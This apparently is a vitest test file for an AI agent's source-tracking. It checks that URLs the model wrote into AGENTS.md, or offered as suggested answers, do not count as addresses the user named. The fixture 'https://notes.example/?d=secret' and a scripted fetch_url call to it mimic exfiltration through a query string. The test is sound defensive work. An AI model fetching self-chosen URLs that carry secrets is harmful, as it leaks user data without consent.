// Addresses that a model wrote or a person was asked about: they name no source.
import { beforeEach, describe, expect, it, vi } from "vitest";
import { call, say } from "../../../test/fakes/replies.ts";
import { fetchTea, run, runOf, tea } from "../../../test/fakes/research.ts";
import { FakeThread } from "../../../test/fakes/thread.ts";
import { memoryWeb } from "../../../test/fakes/web-tools.ts";
import { peopleTools } from "../../tools/people.ts";
import { openSources } from "./sources.ts";

beforeEach(() => {
  vi.spyOn(console, "error").mockImplementation(() => {});
});

describe("an address that the model wrote into AGENTS.md", () => {
  it("is not named by the result of a page to which the sandbox's introduction is added", async () => {
    const noted = "https://notes.example/?d=secret";
    const web = memoryWeb({ [tea]: { title: "Tea", text: "See https://linked.example/a." } });
    const fetchNoted = call({ id: "c3", name: "fetch_url", input: { url: noted } });
    const thread = new FakeThread({ replies: [say("Hi."), fetchTea, fetchNoted, say("Done.")], tools: web.tools });
    const notes = { path: "AGENTS.md", text: noted, is_cut: false };
    const facts = { system: "Debian 13", work_dir: "/work", programs: [], has_route: null, notes };
    Object.assign(thread.sandbox, { readFacts: async () => facts });
    await thread.run("Hello.");
    await thread.life.sandbox;
    thread.sandboxMemory?.remember("sandbox_1");
    await thread.run(`Read ${tea}.`, run);
    const contents = thread.requests.at(-1)?.messages.map(({ content }) => String(content)) ?? [];
    expect(contents.filter((content) => content.includes(noted) && content.includes("</web_content>"))).toHaveLength(1);
    expect(web.requested).toEqual([tea]);
    const { isNamed } = openSources(thread.life);
    expect([isNamed(noted), isNamed("https://linked.example/a")]).toEqual([false, true]);
  });
});

describe("an answer to a question", () => {
  const noted = "https://notes.example/?d=secret";
  const asked = { question: "Go on?", choices: ["No", `Yes, read ${noted}`] };
  const ask = call({ id: "c1", name: "ask", input: asked });
  const answerTo = (thread: FakeThread, payload: string) => {
    const [interrupt] = runOf(thread)?.interrupts ?? [];
    return { resume: [{ interrupt_id: interrupt?.id ?? "", status: "resolved" as const, payload }] };
  };

  it.each([
    ["that the person chose from the model's suggestions names no address", `Yes, read ${noted}`, false],
    ["in the person's own words names an address", `Then read ${noted}`, true],
  ])("%s", async (_name, text, isNamed) => {
    for (const isMessage of [false, true]) {
      const thread = new FakeThread({ replies: [ask, say("Done.")], tools: peopleTools });
      await thread.run("Hello.", run);
      await (isMessage ? thread.run(text) : thread.run("", { messages: [], ...answerTo(thread, text) }));
      expect(JSON.stringify(thread.requests.at(-1)?.messages)).toContain(text);
      expect(openSources(thread.life).isNamed(noted)).toBe(isNamed);
    }
  });

  it("that is a suggestion names no address, also as a message beside the answer or to one of two questions", async () => {
    const other = { id: "c2", name: "ask", input: { question: "Which one?" } };
    for (const isTwo of [false, true]) {
      const first = isTwo ? call({ id: "c1", name: "ask", input: asked }, other) : ask;
      const thread = new FakeThread({ replies: [first, say("Done.")], tools: peopleTools });
      await thread.run("Hello.", run);
      const text = ` Yes, read ${noted}`;
      await thread.run(text, isTwo ? {} : { resume: answerTo(thread, text).resume });
      expect(JSON.stringify(thread.requests.at(-1)?.messages)).toContain(text);
      expect(openSources(thread.life).isNamed(noted)).toBe(false);
    }
  });
});
